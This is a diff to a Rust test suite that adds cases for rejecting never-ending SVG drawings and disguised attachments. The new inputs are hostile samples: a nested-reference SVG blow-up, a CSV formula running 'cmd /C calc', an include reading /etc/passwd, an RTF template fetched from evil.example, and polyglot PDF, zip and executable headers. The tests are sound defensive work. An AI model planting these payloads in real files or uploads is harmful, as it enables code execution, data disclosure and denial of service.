@@ -62,6 +62,13 @@ fn drawings_that_never_end() {
         format!("<path{attributes}/>"),
         format!("<text>{}</text>", "<tspan>a</tspan>".repeat(200_000)),
         "<g id=\"a\"><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>".to_owned(),
+        // In each of 98 groups there are half a million copies: 3 GB if all were noted.
+        format!(
+            "{}{}{}",
+            (0..98).map(|n| format!("<g id=\"g{n}\">")).collect::<String>(),
+            "<use href=\"#a\"/>".repeat(500_000),
+            "</g>".repeat(98)
+        ),
     ] {
         let many = inside.contains("tspan");
         let expected = if many { "" } else { "unsafe drawing" };
@@ -317,6 +324,17 @@ fn attached_pages_scripts_and_programs() {
         ("x.hta", b"<hta:application>"),
         ("x.exe", b"MZ\x90\0"),
         ("x.zip", b"PK\x03\x04\0\0"),
+        ("x.txt", b"\x1f\x8b\x08\0"),
+        ("x.mp3", b"<html><script>alert(1)</script>"),
+        ("x.pdf", b"\n\n<!DOCTYPE html>%PDF-1.7"),
+        ("x.pdf", b"PK\x03\x04%PDF-1.7"),
+        ("x.ics", b"MZ\x90BEGIN:VCALENDAR"),
+        ("x.vtt", b"WEBVTT\n\n<!--#include virtual=\"/etc/passwd\" -->"),
+        ("x.csv", b"name,number\n=cmd|' /C calc'!A0,1\n"),
+        ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x01\0O\0l\0e\01\00\0N\0a\0t\0i\0v\0e\0"),
+        ("x.rtf", b"{\\rtf1{\\*\\template http://evil.example/a.dotm}}"),
+        ("x.txt", b"a\0<script>"),
+        ("x.pdf", b"%PDF-1.7\n<</S/Rendition/JS(app.alert)>>"),
         ("x.pdf", b"%PDF-1.7\n<</S /JavaScript /JS (app.alert(1))>>"),
         ("x.xml", b"<a/>"),
         ("x", b"#!/bin/sh\n"),
